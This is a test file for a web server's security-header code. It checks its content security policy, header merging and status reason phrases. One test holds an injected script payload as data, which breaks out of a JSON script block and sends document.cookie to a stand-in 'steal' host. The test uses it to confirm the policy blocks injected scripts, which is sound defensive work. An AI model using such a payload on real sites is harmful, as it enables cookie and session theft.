import { describe, it, expect } from 'vitest';
import { createHash } from 'node:crypto';
import { pagePolicy, withSecurityHeaders } from '../../src/lib/server/security-headers';

const sha = (s: string) => `'sha256-${createHash('sha256').update(s, 'utf8').digest('base64')}'`;
const scriptSrc = (policy: string | null) => policy!.split('; ').find((d) => d.startsWith('script-src'))!;

describe('content security policy', () => {
  it('a page allows only our own script files: no hashes, never unsafe-inline', () => {
    const policy = pagePolicy();
    expect(scriptSrc(policy)).toBe("script-src 'self'");
    expect(policy).toContain("style-src 'self' 'unsafe-inline'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
  });

  it('a script that user content placed in the page is not allowed, even though it is in the HTML', () => {
    // A record body or a data block that smuggled a <script> into the markup: an old policy hashed every
    // <script> it found in the rendered page, so this one would have run.
    const injected = 'fetch("https://elsewhere.example/steal?c="+document.cookie)';
    const html = `<html><body><script type="application/json">{"t":"</script><script>${injected}</script>"}</body></html>`;
    // Whatever policy a renderer declared (hashes, unsafe-inline, hosts), the page gets ours.
    const declared = `script-src 'self' 'unsafe-inline' https://cdn.example ${sha(injected)};`;
    const page = withSecurityHeaders(
      new Response(html, { headers: { 'content-type': 'text/html', 'content-security-policy': declared } }),
    );
    const policy = page.headers.get('content-security-policy');
    expect(policy).not.toContain(sha(injected));
    expect(scriptSrc(policy)).toBe("script-src 'self'");
  });

  it('adds the headers to other responses, keeping ones a route set', () => {
    const json = withSecurityHeaders(
      new Response('{}', { headers: { 'content-type': 'application/json', 'referrer-policy': 'no-referrer' } }),
    );
    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
    expect(json.headers.get('referrer-policy')).toBe('no-referrer');
    expect(scriptSrc(json.headers.get('content-security-policy'))).toBe("script-src 'self'");
    const sandboxed = withSecurityHeaders(
      new Response('a,b', {
        headers: { 'content-type': 'text/csv', 'content-security-policy': "default-src 'none'; sandbox" },
      }),
    );
    expect(sandboxed.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const redirect = withSecurityHeaders(Response.redirect('http://localhost/next', 302));
    expect(redirect.headers.get('x-frame-options')).toBe('DENY');
  });

  it('gives a page whose status was set the reason phrase of that status ("403 Forbidden", never "403 OK")', () => {
    const forbidden = withSecurityHeaders(
      new Response('<p>no</p>', { status: 403, statusText: 'OK', headers: { 'content-type': 'text/html' } }),
    );
    expect(forbidden.status).toBe(403);
    expect(forbidden.statusText).toBe('Forbidden');
    expect(forbidden.headers.get('x-content-type-options')).toBe('nosniff');
    const fine = withSecurityHeaders(new Response('x', { status: 404, statusText: 'Not Found' }));
    expect(fine.statusText).toBe('Not Found');
  });
});
